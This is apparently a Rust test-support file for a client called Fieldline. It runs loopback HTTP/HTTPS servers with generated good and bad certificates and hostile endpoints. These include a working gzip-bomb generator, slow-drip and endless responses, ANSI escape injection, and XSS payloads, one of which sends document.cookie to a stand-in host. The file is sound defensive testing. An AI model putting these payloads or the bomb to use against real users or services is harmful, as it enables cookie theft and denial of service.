//! Loopback HTTP and HTTPS test servers for checks: certificates made on the fly (a test
//! CA, a valid leaf, an expired one, one not yet valid, one for the wrong name, a
//! self-signed one) and hostile endpoints (slow drip, endless body, gzip bomb, redirect
//! loops, invalid UTF-8, huge headers, HTML/script and terminal escapes in bodies and
//! headers, a server that never answers).
//!
//! Needs `std`, `tempfile`, `openssl` (0.10, already in Fieldline's tree through
//! reqwest's native-tls, so it adds no build time) and `flate2` (the gzip bomb):
//!
//! ```ignore
//! #[path = "support/tls.rs"]
//! mod tls;
//! let servers = tls::Servers::start()?;
//! let url = servers.url(tls::Cert::Valid, tls::Case::Ok);   // https://127.0.0.1:P/ok
//! let ca = servers.ca_bundle_path();                          // PEM, the per-customer CA
//! ```
//!
//! One thread per connection, one request per connection (`Connection: close`). Each
//! [`Cert`] (and [`Cert::Plain`], no TLS) has its own port; every [`Case`] is a path on
//! every port. Everything stops on drop (streaming cases notice within ~0.2 s).

#![allow(dead_code)]

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, OnceLock};
use std::thread::JoinHandle;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use openssl::asn1::{Asn1Integer, Asn1Time};
use openssl::bn::BigNum;
use openssl::ec::{EcGroup, EcKey};
use openssl::hash::MessageDigest;
use openssl::nid::Nid;
use openssl::pkey::{PKey, Private};
use openssl::ssl::{SslAcceptor, SslMethod};
use openssl::x509::extension::{
    AuthorityKeyIdentifier, BasicConstraints, ExtendedKeyUsage, KeyUsage, SubjectAlternativeName,
    SubjectKeyIdentifier,
};
use openssl::x509::{X509Name, X509};

/// Which server (port) and so which certificate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Cert {
    /// Plain HTTP.
    Plain,
    /// Signed by the test CA, for `localhost` and `127.0.0.1`, valid now and for 60 days.
    Valid,
    /// Signed by the test CA, expired yesterday.
    Expired,
    /// Signed by the test CA, valid from tomorrow.
    NotYetValid,
    /// Signed by the test CA, only for `wrong.fieldline.test` (so `127.0.0.1` mismatches).
    WrongName,
    /// Self-signed for `localhost`/`127.0.0.1`: not in the CA bundle, so untrusted.
    SelfSigned,
}

pub const ALL_CERTS: [Cert; 6] = [
    Cert::Plain,
    Cert::Valid,
    Cert::Expired,
    Cert::NotYetValid,
    Cert::WrongName,
    Cert::SelfSigned,
];

/// What a path does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Case {
    /// `/ok`: 200 `ok`.
    Ok,
    /// `/t/N`: 200 with the path as body; N distinct targets on one port.
    Target(u32),
    /// `/status/N`: status N, body `status N`.
    Status(u16),
    /// `/delay/MS`: 200 after MS milliseconds.
    Delay(u64),
    /// `/hang`: reads the request, never answers (until the server stops).
    Hang,
    /// `/slow-drip`: 200, Content-Length 1000, one byte every 200 ms (200 s in all).
    SlowDrip,
    /// `/endless`: 200, chunked, 64 KiB chunks forever (until the client goes away).
    Endless,
    /// `/gzip-bomb`: `Content-Encoding: gzip`, ~1 MiB on the wire that inflates to 1 GiB
    /// of zeros.
    GzipBomb,
    /// `/redirect-loop`: 302 to itself.
    RedirectLoop,
    /// `/redirect-a` -> `/redirect-b` -> `/redirect-a` ...
    RedirectPingPong,
    /// `/invalid-utf8`: `text/plain; charset=utf-8` with invalid bytes in the body and in
    /// a header (`X-Bad`).
    InvalidUtf8,
    /// `/huge-headers`: 1024 headers of ~1 KiB each (1 MiB of header section).
    HugeHeaders,
    /// `/html`: an HTML body with `<script>`, plus script/HTML in `Server`, `X-Title`,
    /// `Location`-like headers and the reason phrase.
    Html,
    /// `/ansi`: terminal escape sequences (colours, clear screen, OSC title) in the body
    /// and the reason phrase.
    Ansi,
    /// `/json`: `{"status":"ok","queue":120,"db":{"lag":3}}`.
    Json,
}

impl Case {
    pub fn path(self) -> String {
        match self {
            Case::Ok => "/ok".into(),
            Case::Target(n) => format!("/t/{n}"),
            Case::Status(n) => format!("/status/{n}"),
            Case::Delay(ms) => format!("/delay/{ms}"),
            Case::Hang => "/hang".into(),
            Case::SlowDrip => "/slow-drip".into(),
            Case::Endless => "/endless".into(),
            Case::GzipBomb => "/gzip-bomb".into(),
            Case::RedirectLoop => "/redirect-loop".into(),
            Case::RedirectPingPong => "/redirect-a".into(),
            Case::InvalidUtf8 => "/invalid-utf8".into(),
            Case::HugeHeaders => "/huge-headers".into(),
            Case::Html => "/html".into(),
            Case::Ansi => "/ansi".into(),
            Case::Json => "/json".into(),
        }
    }
}

#[derive(Debug)]
pub struct TlsError(pub String);

impl std::fmt::Display for TlsError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}
impl std::error::Error for TlsError {}

fn err<E: std::fmt::Display>(what: &str) -> impl FnOnce(E) -> TlsError + '_ {
    move |e| TlsError(format!("{what}: {e}"))
}

/// The servers; stopped on drop.
pub struct Servers {
    stop: Arc<AtomicBool>,
    ports: Vec<(Cert, u16)>,
    threads: Vec<JoinHandle<()>>,
    ca_pem: String,
    dir: tempfile::TempDir,
}

impl Servers {
    /// Makes the certificates (EC P-256, a few ms) and starts one listener per [`Cert`].
    pub fn start() -> Result<Servers, TlsError> {
        let dir = tempfile::Builder::new()
            .prefix("fieldline-tls-")
            .tempdir()
            .map_err(err("temp dir"))?;
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64;
        let day = 86_400;
        let (ca_key, ca) = make_cert(
            "Fieldline Test CA",
            &[],
            None,
            now - day,
            now + 365 * day,
            true,
        )?;
        let good = ["localhost", "127.0.0.1"];
        let issuer = Some((&ca, &ca_key));
        let leaves = [
            (
                Cert::Valid,
                make_cert(
                    "localhost",
                    &good,
                    issuer,
                    now - 3600,
                    now + 60 * day,
                    false,
                )?,
            ),
            (
                Cert::Expired,
                make_cert("localhost", &good, issuer, now - 10 * day, now - day, false)?,
            ),
            (
                Cert::NotYetValid,
                make_cert("localhost", &good, issuer, now + day, now + 10 * day, false)?,
            ),
            (
                Cert::WrongName,
                make_cert(
                    "wrong.fieldline.test",
                    &["wrong.fieldline.test"],
                    issuer,
                    now - 3600,
                    now + day,
                    false,
                )?,
            ),
            (
                Cert::SelfSigned,
                make_cert("localhost", &good, None, now - 3600, now + day, false)?,
            ),
        ];
        let ca_pem = String::from_utf8(ca.to_pem().map_err(err("pem"))?).unwrap();
        std::fs::write(dir.path().join("ca.pem"), &ca_pem).map_err(err("write ca.pem"))?;

        let stop = Arc::new(AtomicBool::new(false));
        let mut ports = Vec::new();
        let mut threads = Vec::new();
        let mut listen = |cert: Cert, acceptor: Option<Arc<SslAcceptor>>| -> Result<(), TlsError> {
            let listener = TcpListener::bind("127.0.0.1:0").map_err(err("bind"))?;
            let port = listener.local_addr().map_err(err("addr"))?.port();
            let stop = stop.clone();
            threads.push(std::thread::spawn(move || {
                accept_loop(listener, acceptor, stop)
            }));
            ports.push((cert, port));
            Ok(())
        };
        listen(Cert::Plain, None)?;
        for (cert, (key, x509)) in leaves {
            let mut b =
                SslAcceptor::mozilla_intermediate_v5(SslMethod::tls()).map_err(err("acceptor"))?;
            b.set_private_key(&key).map_err(err("key"))?;
            b.set_certificate(&x509).map_err(err("cert"))?;
            if cert != Cert::SelfSigned {
                b.add_extra_chain_cert(ca.clone()).map_err(err("chain"))?;
            }
            std::fs::write(
                dir.path().join(format!("{cert:?}.pem")),
                x509.to_pem().map_err(err("pem"))?,
            )
            .map_err(err("write pem"))?;
            listen(cert, Some(Arc::new(b.build())))?;
        }
        Ok(Servers {
            stop,
            ports,
            threads,
            ca_pem,
            dir,
        })
    }

    pub fn port(&self, cert: Cert) -> u16 {
        self.ports
            .iter()
            .find(|(c, _)| *c == cert)
            .map(|(_, p)| *p)
            .unwrap()
    }

    /// `http://127.0.0.1:P/path` or `https://127.0.0.1:P/path`.
    pub fn url(&self, cert: Cert, case: Case) -> String {
        self.url_with_host(cert, case, "127.0.0.1")
    }

    /// The same with another host name (e.g. `localhost`; the valid leaf names both).
    pub fn url_with_host(&self, cert: Cert, case: Case, host: &str) -> String {
        let scheme = if cert == Cert::Plain { "http" } else { "https" };
        format!("{scheme}://{host}:{}{}", self.port(cert), case.path())
    }

    /// The test CA as PEM (what a customer's CA bundle would hold).
    pub fn ca_pem(&self) -> &str {
        &self.ca_pem
    }

    /// `ca.pem` in the temp folder.
    pub fn ca_bundle_path(&self) -> PathBuf {
        self.dir.path().join("ca.pem")
    }

    /// The leaf certificate of `cert` as PEM (e.g. to pin or to compare fingerprints).
    pub fn leaf_pem_path(&self, cert: Cert) -> PathBuf {
        self.dir.path().join(format!("{cert:?}.pem"))
    }
}

impl Drop for Servers {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        for (_, port) in &self.ports {
            // Wake the blocking accept.
            let _ = TcpStream::connect_timeout(
                &SocketAddr::from(([127, 0, 0, 1], *port)),
                Duration::from_secs(1),
            );
        }
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

fn make_cert(
    cn: &str,
    names: &[&str],
    issuer: Option<(&X509, &PKey<Private>)>,
    not_before: i64,
    not_after: i64,
    is_ca: bool,
) -> Result<(PKey<Private>, X509), TlsError> {
    let group = EcGroup::from_curve_name(Nid::X9_62_PRIME256V1).map_err(err("curve"))?;
    let key =
        PKey::from_ec_key(EcKey::generate(&group).map_err(err("keygen"))?).map_err(err("pkey"))?;
    let mut name = X509Name::builder().map_err(err("name"))?;
    name.append_entry_by_nid(Nid::COMMONNAME, cn)
        .map_err(err("cn"))?;
    name.append_entry_by_nid(Nid::ORGANIZATIONNAME, "Fieldline tests")
        .map_err(err("o"))?;
    let name = name.build();
    let mut b = X509::builder().map_err(err("builder"))?;
    b.set_version(2).map_err(err("version"))?;
    let serial = BigNum::from_u32(rand_u32())
        .and_then(|n| Asn1Integer::from_bn(&n))
        .map_err(err("serial"))?;
    b.set_serial_number(&serial).map_err(err("serial"))?;
    b.set_subject_name(&name).map_err(err("subject"))?;
    b.set_issuer_name(issuer.map(|(c, _)| c.subject_name()).unwrap_or(&name))
        .map_err(err("issuer"))?;
    b.set_pubkey(&key).map_err(err("pubkey"))?;
    let (nb, na): (Asn1Time, Asn1Time) = (
        Asn1Time::from_unix(not_before).map_err(err("time"))?,
        Asn1Time::from_unix(not_after).map_err(err("time"))?,
    );
    b.set_not_before(&nb).map_err(err("nb"))?;
    b.set_not_after(&na).map_err(err("na"))?;
    if is_ca {
        b.append_extension(
            BasicConstraints::new()
                .critical()
                .ca()
                .build()
                .map_err(err("bc"))?,
        )
        .map_err(err("ext"))?;
        b.append_extension(
            KeyUsage::new()
                .critical()
                .key_cert_sign()
                .crl_sign()
                .build()
                .map_err(err("ku"))?,
        )
        .map_err(err("ext"))?;
    } else {
        b.append_extension(BasicConstraints::new().build().map_err(err("bc"))?)
            .map_err(err("ext"))?;
        b.append_extension(
            KeyUsage::new()
                .critical()
                .digital_signature()
                .build()
                .map_err(err("ku"))?,
        )
        .map_err(err("ext"))?;
        b.append_extension(
            ExtendedKeyUsage::new()
                .server_auth()
                .build()
                .map_err(err("eku"))?,
        )
        .map_err(err("ext"))?;
        let mut san = SubjectAlternativeName::new();
        for n in names {
            if n.parse::<std::net::IpAddr>().is_ok() {
                san.ip(n);
            } else {
                san.dns(n);
            }
        }
        let san = san
            .build(&b.x509v3_context(issuer.map(|(c, _)| &**c), None))
            .map_err(err("san"))?;
        b.append_extension(san).map_err(err("ext"))?;
    }
    let ski = SubjectKeyIdentifier::new()
        .build(&b.x509v3_context(issuer.map(|(c, _)| &**c), None))
        .map_err(err("ski"))?;
    b.append_extension(ski).map_err(err("ext"))?;
    if let Some((ca, _)) = issuer {
        let aki = AuthorityKeyIdentifier::new()
            .keyid(false)
            .build(&b.x509v3_context(Some(ca), None))
            .map_err(err("aki"))?;
        b.append_extension(aki).map_err(err("ext"))?;
    }
    let signer = issuer.map(|(_, k)| k).unwrap_or(&key);
    b.sign(signer, MessageDigest::sha256())
        .map_err(err("sign"))?;
    Ok((key, b.build()))
}

fn rand_u32() -> u32 {
    let mut buf = [0u8; 4];
    openssl::rand::rand_bytes(&mut buf).unwrap();
    u32::from_le_bytes(buf) >> 1
}

// ---------------------------------------------------------------------------------------
// Serving

fn accept_loop(listener: TcpListener, acceptor: Option<Arc<SslAcceptor>>, stop: Arc<AtomicBool>) {
    for conn in listener.incoming() {
        if stop.load(Ordering::SeqCst) {
            return;
        }
        let Ok(tcp) = conn else { continue };
        let acceptor = acceptor.clone();
        let stop = stop.clone();
        std::thread::spawn(move || {
            let _ = tcp.set_read_timeout(Some(Duration::from_secs(10)));
            let _ = tcp.set_write_timeout(Some(Duration::from_secs(10)));
            match acceptor {
                None => {
                    let mut s = tcp;
                    serve(&mut s, &stop);
                    let _ = s.shutdown(Shutdown::Both);
                }
                Some(a) => {
                    // A client that rejects the certificate closes here; nothing to do.
                    if let Ok(mut s) = a.accept(tcp) {
                        serve(&mut s, &stop);
                        let _ = s.shutdown();
                    }
                }
            }
        });
    }
}

/// Reads one request head; answers by its path.
fn serve<S: Read + Write>(s: &mut S, stop: &AtomicBool) {
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
        if head.len() > 64 * 1024 {
            return;
        }
    }
    let line = String::from_utf8_lossy(&head);
    let path = line
        .split_whitespace()
        .nth(1)
        .unwrap_or("/")
        .split('?')
        .next()
        .unwrap_or("/")
        .to_owned();
    let _ = respond(s, &path, stop);
}

fn respond<S: Write>(s: &mut S, path: &str, stop: &AtomicBool) -> std::io::Result<()> {
    let simple = |s: &mut S, status: &str, extra: &str, body: &[u8]| -> std::io::Result<()> {
        let head = format!(
            "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n{extra}\r\n",
            body.len()
        );
        s.write_all(head.as_bytes())?;
        s.write_all(body)?;
        s.flush()
    };
    let ctype = "Content-Type: text/plain; charset=utf-8\r\n";
    if let Some(n) = path.strip_prefix("/status/") {
        let n: u16 = n.parse().unwrap_or(500);
        return simple(
            s,
            &format!("{n} Test"),
            ctype,
            format!("status {n}").as_bytes(),
        );
    }
    if let Some(ms) = path.strip_prefix("/delay/") {
        sleep_unless_stopped(Duration::from_millis(ms.parse().unwrap_or(1000)), stop);
        return simple(s, "200 OK", ctype, b"ok");
    }
    if path.starts_with("/t/") {
        // Many distinct targets on one port (benchmarks): `/t/ANYTHING` answers 200.
        return simple(s, "200 OK", ctype, path.as_bytes());
    }
    match path {
        "/ok" | "/" => simple(s, "200 OK", ctype, b"ok"),
        "/json" => simple(
            s,
            "200 OK",
            "Content-Type: application/json\r\n",
            br#"{"status":"ok","queue":120,"db":{"lag":3}}"#,
        ),
        "/hang" => {
            sleep_unless_stopped(Duration::from_secs(3600), stop);
            Ok(())
        }
        "/slow-drip" => {
            s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\nConnection: close\r\nContent-Type: text/plain\r\n\r\n")?;
            s.flush()?;
            for _ in 0..1000 {
                if stop.load(Ordering::SeqCst) {
                    return Ok(());
                }
                s.write_all(b".")?;
                s.flush()?;
                std::thread::sleep(Duration::from_millis(200));
            }
            Ok(())
        }
        "/endless" => {
            s.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\nContent-Type: text/plain\r\n\r\n")?;
            let chunk = vec![b'a'; 65536];
            let started = Instant::now();
            // Stops when the client goes away (write error), the server stops, or after
            // 10 minutes at the latest.
            while !stop.load(Ordering::SeqCst) && started.elapsed() < Duration::from_secs(600) {
                s.write_all(b"10000\r\n")?;
                s.write_all(&chunk)?;
                s.write_all(b"\r\n")?;
            }
            Ok(())
        }
        "/gzip-bomb" => simple(
            s,
            "200 OK",
            "Content-Type: text/plain\r\nContent-Encoding: gzip\r\n",
            gzip_bomb(),
        ),
        "/redirect-loop" => simple(s, "302 Found", "Location: /redirect-loop\r\n", b""),
        "/redirect-a" => simple(s, "302 Found", "Location: /redirect-b\r\n", b""),
        "/redirect-b" => simple(s, "302 Found", "Location: /redirect-a\r\n", b""),
        "/invalid-utf8" => {
            let head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\nX-Bad: \xff\xfe\xc3\x28\r\nContent-Length: 12\r\nConnection: close\r\n\r\n";
            s.write_all(head)?;
            s.write_all(b"ok \xff\xfe \xc3\x28 \xed\xa0\x80")?;
            s.flush()
        }
        "/huge-headers" => {
            let mut extra = String::new();
            let filler = "x".repeat(1000);
            for i in 0..1024 {
                extra += &format!("X-Fill-{i}: {filler}\r\n");
            }
            simple(s, "200 OK", &(extra + ctype), b"ok")
        }
        "/html" => simple(
            s,
            "200 <script>alert('reason')</script>",
            "Content-Type: text/html\r\nServer: <script>alert('server')</script>\r\n\
             X-Title: <img src=x onerror=alert(1)>\r\nX-Link: javascript:alert(1)\r\n",
            b"<!doctype html><title><script>alert('title')</script></title>\
              <h1 onmouseover=\"alert(1)\">Hi</h1><script>document.write('<img src=//evil.test/'+document.cookie+'>')</script>\
              <iframe src=\"javascript:alert(2)\"></iframe>]]>'\"`${7*7}{{7*7}}",
        ),
        "/ansi" => simple(
            s,
            "200 \x1b[31mRED\x1b[0m",
            ctype,
            b"\x1b[2J\x1b[H\x1b]0;pwned title\x07\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[0m\r\rcarriage\x08\x08back \x00nul \x7f",
        ),
        _ => simple(s, "404 Not Found", ctype, b"not found"),
    }
}

fn sleep_unless_stopped(d: Duration, stop: &AtomicBool) {
    let until = Instant::now() + d;
    while Instant::now() < until && !stop.load(Ordering::SeqCst) {
        std::thread::sleep(
            Duration::from_millis(50).min(until.saturating_duration_since(Instant::now())),
        );
    }
}

/// 1 GiB of zeros as one valid gzip member (~1 MiB), made once per process in ~50 ms
/// even in a debug build: deflating 1 MiB of zeros from a fresh state with a full flush
/// gives a byte-aligned segment without back references before its start, so 1024 copies
/// of it, an empty final block, and the CRC-32 of 1 GiB of zeros (1024
/// `Crc::combine`s of the CRC of 1 MiB) make the stream. (Gzipping 1 GiB for real took
/// 30 s in a debug build.)
pub fn gzip_bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        use flate2::{Compress, Compression, Crc, FlushCompress};
        let zeros = vec![0u8; 1 << 20];
        let mut c = Compress::new(Compression::best(), false);
        let mut segment = Vec::with_capacity(4096);
        c.compress_vec(&zeros, &mut segment, FlushCompress::Full)
            .unwrap();
        assert_eq!(
            c.total_in(),
            zeros.len() as u64,
            "one call must take all input"
        );
        let mut tail = Vec::with_capacity(64);
        c.compress_vec(&[], &mut tail, FlushCompress::Finish)
            .unwrap();
        let mut mib = Crc::new();
        mib.update(&zeros);
        let mut crc = Crc::new();
        for _ in 0..1024 {
            crc.combine(&mib);
        }
        let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        for _ in 0..1024 {
            out.extend_from_slice(&segment);
        }
        out.extend_from_slice(&tail);
        out.extend_from_slice(&crc.sum().to_le_bytes());
        out.extend_from_slice(&(crc.amount()).to_le_bytes());
        out
    })
}
